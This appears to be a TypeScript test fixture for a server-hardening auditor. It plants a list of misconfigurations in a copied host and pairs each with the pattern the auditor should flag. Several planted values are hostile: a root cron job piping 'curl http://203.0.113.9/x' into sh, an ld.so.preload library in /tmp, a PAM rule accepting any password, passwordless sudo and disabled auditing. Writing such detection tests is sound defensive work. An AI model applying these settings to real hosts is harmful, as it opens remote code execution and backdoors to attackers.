/** The fourth set on hosts: units, firewall, time, names, logs, kernel, accounts, jobs. See careless-fourth.ts. */
import { rmSync, symlinkSync } from 'node:fs';
import { type HostCopy, UNIT, edit } from './careless-host.ts';

export type NamedHost = readonly [what: string, names: RegExp, spoil: (host: HostCopy) => unknown];
const relink = (to: string, path: string) => {
  rmSync(path, { force: true });
  symlinkSync(to, path);
};
const file = (path: string, text: string, mode?: number) => (host: HostCopy) => host.write(path, text, mode);
const service = (path: string, line: string) => file(path, `[Service]\n${line}\n`);

export const FOURTH_HOSTS: readonly NamedHost[] = [
  [
    'unit: a library that watches the loader',
    /LD_AUDIT/,
    service(`${UNIT}.d/50-x.conf`, 'Environment=LD_AUDIT=/tmp/x.so'),
  ],
  ['unit: the whole host in a folder', /BindPaths/, service(`${UNIT}.d/50-x.conf`, 'BindPaths=/:/mnt')],
  [
    'unit: a drop-in until the next boot',
    /NoNewPrivileges/,
    service('run/systemd/system/qr-code-master.service.d/x.conf', 'NoNewPrivileges=no'),
  ],
  ['unit: a drop-in of all services', /UMask/, service('etc/systemd/system/service.d/10-all.conf', 'UMask=0000')],
  [
    'unit: systemctl set-property',
    /MemoryMax/,
    service('etc/systemd/system.control/qr-code-master.service.d/50-MemoryMax.conf', 'MemoryMax=infinity'),
  ],
  [
    'backup: the check after it dropped',
    /ExecStartPost/,
    service('etc/systemd/system/qr-backup.service.d/x.conf', 'ExecStartPost='),
  ],
  [
    'backup: into /tmp',
    /\/tmp\/backup/,
    edit('etc/systemd/system/qr-backup.service', '--to /var/backups/qr-code-master', '--to /tmp/backup'),
  ],
  [
    'backup: its key readable by everybody',
    /backup-sign\.key/,
    file('etc/qr-code-master/backup-sign.key', 'key', 0o644),
  ],
  [
    'watch: once a day',
    /qr-watch|OnUnitActiveSec/,
    file('etc/systemd/system/qr-watch.timer', '[Timer]\nOnUnitActiveSec=1d\n'),
  ],
  [
    'firewall: its unit masked',
    /qr-firewall/,
    (host) => relink('/dev/null', host.path('etc/systemd/system/qr-firewall.service')),
  ],
  [
    'firewall: no connection tracking',
    /notrack/,
    (host) =>
      host.change(
        '.commands/nft',
        (text) =>
          `${text}table ip raw {\n\tchain prerouting {\n\t\ttype filter hook prerouting priority raw; policy accept;\n\t\tnotrack\n\t}\n}\n`,
      ),
  ],
  [
    'firewall: SSH for all users',
    /\b22\b|SSH/,
    edit('.commands/nft', 'tcp dport 22 ip saddr 10.0.9.0/24', 'tcp dport 22 ip saddr @web4'),
  ],
  [
    'firewall: a port of monitoring',
    /161/,
    edit(
      '.commands/nft',
      'limit rate 10/second log',
      'udp dport 161 ip saddr 10.0.0.0/8 accept\n\t\tlimit rate 10/second log',
    ),
  ],
  [
    'time: the server tells it to everybody',
    /chrony|\ballow\b/,
    file('etc/chrony/chrony.conf', 'server 10.0.0.6 iburst\nallow 0.0.0.0/0\n'),
  ],
  [
    'time: commanded over the network',
    /cmdallow|bindcmdaddress/,
    file('etc/chrony/conf.d/x.conf', 'cmdallow all\nbindcmdaddress 0.0.0.0\n'),
  ],
  ['names: a public resolver', /8\.8\.8\.8/, file('etc/resolv.conf', 'nameserver 8.8.8.8\n')],
  [
    'names: the collector is another machine',
    /etc\/hosts|203\.0\.113\.9/,
    file('etc/hosts', '127.0.0.1 localhost\n203.0.113.9 logs.example.internal\n'),
  ],
  ['logs: copied and cut', /copytruncate/, edit('etc/logrotate.d/qr-code-master', 'daily', 'daily\n    copytruncate')],
  [
    'logs: a second rotation',
    /logrotate\.d\/local|size/,
    file('etc/logrotate.d/local', '/var/log/qr-code-master/*.log {\n size 1M\n rotate 1\n}\n'),
  ],
  [
    'logs: refusals dropped by an earlier file',
    /10-drop|\bstop\b/,
    file('etc/rsyslog.d/10-drop.conf', ':msg, contains, "refused" stop\n'),
  ],
  [
    'logs: taken from the network',
    /imudp/,
    file('etc/rsyslog.d/20-net.conf', 'module(load="imudp")\ninput(type="imudp" port="514")\n'),
  ],
  [
    'logs: the journal unsealed and by itself',
    /ForwardToSyslog|Seal/,
    file('etc/systemd/journald.conf.d/zz.conf', '[Journal]\nForwardToSyslog=no\nSeal=no\n'),
  ],
  ['audit: a rule that switches all off', /never|zz\.rules/, file('etc/audit/rules.d/zz.rules', '-a never,task\n')],
  [
    'audit: a full disk ignored',
    /space_left_action|disk_full_action/,
    file(
      'etc/audit/auditd.conf',
      'space_left_action = IGNORE\ndisk_full_action = IGNORE\nmax_log_file_action = ROTATE\nnum_logs = 2\n',
    ),
  ],
  ['kernel: any process debugged', /ptrace_scope/, file('proc/sys/kernel/yama/ptrace_scope', '0\n')],
  ['kernel: links in /tmp followed', /protected_symlinks/, file('proc/sys/fs/protected_symlinks', '0\n')],
  ['kernel: forged sources taken', /rp_filter/, file('proc/sys/net/ipv4/conf/all/rp_filter', '0\n')],
  ['ssh: screens forwarded', /x11/i, (host) => host.change('.commands/sshd-T', (text) => `${text}x11forwarding yes\n`)],
  ['ssh: block ciphers', /cbc/i, edit('.commands/sshd-T', 'ciphers ', 'ciphers aes128-cbc,')],
  ['login: any password', /pam_permit/, file('etc/pam.d/sshd', 'auth sufficient pam_permit.so\n')],
  ['sudo: no password asked', /!authenticate/, file('etc/sudoers.d/x', 'Defaults !authenticate\n')],
  [
    'sudo: the loader’s variables kept',
    /LD_PRELOAD|env_keep/,
    file('etc/sudoers.d/x', 'Defaults env_keep += "LD_PRELOAD"\n'),
  ],
  [
    'accounts: an empty password',
    /guest|empty/,
    (host) => host.change('etc/shadow', (text) => `${text}guest::19000:0:90:7:::\n`),
  ],
  ['accounts: a key for root', /authorized_keys/, file('root/.ssh/authorized_keys', 'ssh-ed25519 AAAA x\n', 0o600)],
  [
    'jobs: a script from the network',
    /cron|curl/,
    file('etc/cron.d/sync', '* * * * * root curl http://203.0.113.9/x | sh\n'),
  ],
  ['jobs: a script that anybody can write', /\/tmp\/x\.sh/, file('etc/crontab', '*/5 * * * * root /tmp/x.sh\n')],
  ['loader: a library before all others', /ld\.so\.preload/, file('etc/ld.so.preload', '/tmp/x.so\n')],
  ['fail2ban: nobody is banned', /ignoreip/, file('etc/fail2ban/jail.d/zz.conf', '[DEFAULT]\nignoreip = 0.0.0.0/0\n')],
  [
    'updates: packages without a signature',
    /Unauthenticated|Insecure/,
    file('etc/apt/apt.conf.d/99x', 'APT::Get::AllowUnauthenticated "true";\n'),
  ],
  ['AppArmor: only complains', /complain/, file('etc/apparmor.d/force-complain/qr-code-master', '')],
  ['mounts: programs from /tmp', /fstab|noexec/, file('etc/fstab', 'tmpfs /tmp tmpfs defaults 0 0\n')],
  [
    'ports: a database open to everybody',
    /6379/,
    (host) => host.change('.commands/ss', (text) => `${text}tcp LISTEN 0 128 0.0.0.0:6379 0.0.0.0:*\n`),
  ],
  ['packages: a debugger', /\bgdb\b/, (host) => host.change('.commands/dpkg-l', (text) => `${text}ii  gdb\n`)],
  [
    'engine: its interface on the network',
    /2375|daemon\.json/,
    file('etc/docker/daemon.json', '{"hosts":["tcp://0.0.0.0:2375"]}\n'),
  ],
];
